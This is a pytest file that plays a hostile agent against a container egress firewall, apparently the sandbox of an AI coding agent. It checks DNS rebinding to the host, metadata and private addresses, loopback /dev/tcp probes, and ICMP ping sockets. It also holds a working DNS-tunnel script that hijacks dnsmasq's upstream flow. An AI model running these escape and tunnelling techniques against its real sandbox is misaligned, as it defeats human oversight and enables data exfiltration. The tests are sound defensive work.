"""A hostile agent against the egress firewall, with the test internet of
tests/test_firewall_container.py (its fixtures: an authoritative DNS server on the bridge gateway,
HTTP server containers, an HTTP server on the host). Uses port 53 on the gateway: never run it
next to another file that does.
"""

from __future__ import annotations

import secrets
import time

import pytest

from tests.test_firewall_container import (  # noqa: F401 (fixtures are found by name)
    PING_PL,
    fake_dns,
    gateway,
    host_http,
    internet,
    net_name,
    network_kind,
    product_image,
    sandbox,
    servers,
    user_network,
)

pytestmark = pytest.mark.docker


def test_an_allowlisted_name_pointing_at_the_docker_host_does_not_open_it(sandbox, internet, servers, host_http, gateway):
    """DNS decides what enters the allow set, and whoever answers for an allowed name (or a
    name rebound mid-session) can point it anywhere: the host stays closed all the same."""
    internet.set("exact.test", servers["alpha"].address())
    internet.set("rebound.test", servers["beta"].address())
    internet.set("host.test", gateway)
    box = sandbox(["exact.test", "rebound.test", "host.test"])
    assert box.curl("http://exact.test/") == (0, "alpha")
    assert box.curl("http://rebound.test/") == (0, "beta")
    code, body = box.curl(f"http://host.test:{host_http}/")
    assert code != 0 and body != "host", (code, body)
    internet.set("rebound.test", gateway)
    time.sleep(internet.ttl + 1.5)  # the old answer leaves dnsmasq's cache
    assert box.run(["getent", "ahostsv4", "rebound.test"])[1].split()[0] == gateway
    code, body = box.curl(f"http://rebound.test:{host_http}/")
    assert code != 0 and body != "host", (code, body)
    assert box.curl(f"http://{gateway}:{host_http}/")[0] != 0


def test_the_agent_cannot_use_loopback_addresses_around_dnsmasq(sandbox, internet, servers):
    """Only 127.0.0.1:53 (dnsmasq) answers on loopback; other loopback addresses and ports do not
    lead to the upstream."""
    internet.set("exact.test", servers["alpha"].address())
    internet.set("leak.test", servers["gamma"].address())
    box = sandbox(["exact.test"])
    assert box.run(["getent", "ahostsv4", "leak.test"])[0] != 0
    for host in ("127.0.0.2", "127.1.2.3", "127.0.0.11"):
        code, output = box.sh(f"exec 3<>/dev/tcp/{host}/53 && echo CONNECTED")
        assert "CONNECTED" not in output, host
    assert not internet.asked("leak.test")


# The agent's side of a DNS tunnel through dnsmasq's own upstream flow: watch /proc/net/udp for
# another user's socket (dnsmasq's, or on user-defined networks the engine's forwarder) while an
# allowlisted lookup is forwarded, bind the same port once the answer is in, and send any query to
# the upstream resolver from it. conntrack still holds the flow for ~30 s after the socket closed.
# Prints "TUNNEL ..." when the upstream answered, "held ..." per refused port.
REUSE_FLOW_PY = r"""
import os, random, socket, struct, sys, threading, time
upstream, trigger, leak = sys.argv[1], sys.argv[2], sys.argv[3]
me = os.getuid()

def query(name):
    header = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    return header + b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0\0\1\0\1"

def foreign_ports():
    found = set()
    with open("/proc/net/udp") as table:
        next(table)
        for line in table:
            fields = line.split()
            port = int(fields[1].split(":")[1], 16)
            if int(fields[7]) != me and port != 53:
                found.add(port)
    return found

before = foreign_ports()
answered = threading.Event()

def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(query(trigger), ("127.0.0.1", 53))
        try:
            s.recv(4096)
        except OSError:
            pass
    answered.set()

threading.Thread(target=ask).start()
seen = set()
while not answered.is_set():
    seen |= foreign_ports() - before
if not seen:
    print("no-socket-seen")
    sys.exit(3)
for port in sorted(seen):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    deadline = time.time() + 2
    while True:
        try:
            s.bind(("0.0.0.0", port))
            break
        except OSError as error:
            if time.time() > deadline:
                print(f"cannot-bind {port}: {error}")
                break
            time.sleep(0.01)
    s.settimeout(2)
    try:
        s.sendto(query(leak), (upstream, 53))
        data = s.recv(4096)
        print(f"TUNNEL from port {port}: {len(data)} bytes answered")
        sys.exit(0)
    except OSError as error:
        print(f"held {port}: {error}")
    finally:
        s.close()
sys.exit(1)
"""


def test_the_agent_cannot_reuse_dnsmasqs_flow_to_the_upstream(sandbox, internet, servers, gateway, network_kind):
    """A DNS tunnel past the allowlist: the agent sends its own query from the source port of a
    lookup dnsmasq (or the engine's forwarder) just finished, which conntrack still remembers."""
    internet.set("*.wild.test", servers["alpha"].address(net_name(network_kind)))
    box = sandbox(["*.wild.test"], network=network_kind, allow_private_answers=False)
    internet.delay = 0.3  # a real upstream's latency: time for the agent to spot the socket
    for attempt in range(3):
        trigger = f"t{secrets.token_hex(4)}.wild.test"  # never cached: dnsmasq must forward it
        code, output = box.run(["python3", "-c", REUSE_FLOW_PY, gateway, trigger, f"leak{attempt}.tunnel.test"])
        assert "no-socket-seen" not in output, output  # the attack saw the flow it wants to reuse
        assert "TUNNEL" not in output, output
        assert internet.asked(trigger)
    assert not [q.name for q in internet.queries if q.name.endswith("tunnel.test")]


# ICMP echo through an unprivileged ping socket (no raw-socket capability needed).
PING_SOCKET_PY = r"""
import socket, struct, sys
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except OSError as error:
    print(f"no-socket: {error}")
    sys.exit(2)
s.settimeout(2)
try:
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"cd-probe", (sys.argv[1], 0))
    data = s.recv(4096)
except OSError as error:
    print(f"blocked: {error}")
    sys.exit(1)
print("reply" if data[0] == 0 else f"icmp type {data[0]}")
"""


def test_the_agent_cannot_ping_admitted_addresses(sandbox, internet, servers):
    """Docker opens unprivileged ICMP sockets to every group; an admitted address answers pings."""
    alpha = servers["alpha"].address()
    internet.set("exact.test", alpha)
    box = sandbox(["exact.test"], [f"{alpha}/32"], allow_private_answers=False)
    assert box.run(["perl", "-e", PING_PL, alpha], as_agent=False)[1].strip() == "reply"  # alpha answers pings
    code, output = box.run(["python3", "-c", PING_SOCKET_PY, alpha])
    assert output.strip() != "reply", output
    assert output.startswith("no-socket"), output  # closed at the socket, not only in the filter


def test_the_filter_holds_icmp_even_where_ping_sockets_are_open(sandbox, internet, servers):
    """Should an engine ignore the container's ping_group_range, the filter still drops the echo."""
    alpha = servers["alpha"].address()
    internet.set("exact.test", alpha)
    wide_open = {"sysctls": {"net.ipv4.ping_group_range": "0 2147483647"}}
    box = sandbox(["exact.test"], [f"{alpha}/32"], host_options=wide_open, allow_private_answers=False)
    assert box.run(["cat", "/proc/sys/net/ipv4/ping_group_range"])[1].split() == ["0", "2147483647"]
    code, output = box.run(["python3", "-c", PING_SOCKET_PY, alpha])
    assert output.strip().startswith("blocked"), output


def test_allowlisted_names_resolving_to_private_addresses_are_refused(sandbox, internet, servers):
    """DNS rebinding: whoever answers for an allowlisted name points it at the LAN, the cloud
    metadata service or loopback. Only addresses in allowed_cidrs may come back from DNS."""
    alpha, beta = servers["alpha"].address(), servers["beta"].address()
    private = {
        "lan.test": alpha,  # a private address of a container on the bridge
        "metadata.test": "169.254.169.254",
        "loopback.test": "127.0.0.1",
        "ten.test": "10.203.0.7",
        "cgnat.test": "100.100.100.200",
    }
    for name, address in private.items():
        internet.set(name, address)
    internet.set("listed.test", beta)
    box = sandbox([*private, "listed.test"], [f"{beta}/32"], allow_private_answers=False)
    assert box.curl("http://listed.test/") == (0, "beta")  # in allowed_cidrs: resolves and works
    for name, address in private.items():
        code, output = box.run(["getent", "ahostsv4", name])
        assert code != 0, f"{name} resolved: {output}"
        assert box.run(["ipset", "test", "cd-dns", address], as_agent=False)[0] != 0, f"{address} admitted"
    assert all(internet.asked(name) for name in private)  # the upstream did answer
    assert box.curl("http://lan.test/")[0] != 0
    assert box.curl(f"http://{alpha}/")[0] != 0


def test_allowing_private_answers_still_refuses_loopback_and_metadata(sandbox, internet, servers):
    """allow_private_answers is for internal names on the LAN; link-local and loopback answers
    never name a service of the user's, and stay refused."""
    alpha = servers["alpha"].address()
    internet.set("lan.test", alpha)
    internet.set("metadata.test", "169.254.169.254")
    internet.set("loopback.test", "127.0.0.1")
    box = sandbox(["lan.test", "metadata.test", "loopback.test"], allow_private_answers=True)
    assert box.curl("http://lan.test/") == (0, "alpha")
    for name, address in (("metadata.test", "169.254.169.254"), ("loopback.test", "127.0.0.1")):
        assert not box.resolves(name), name
        assert box.run(["ipset", "test", "cd-dns", address], as_agent=False)[0] != 0, f"{address} admitted"
        assert internet.asked(name)
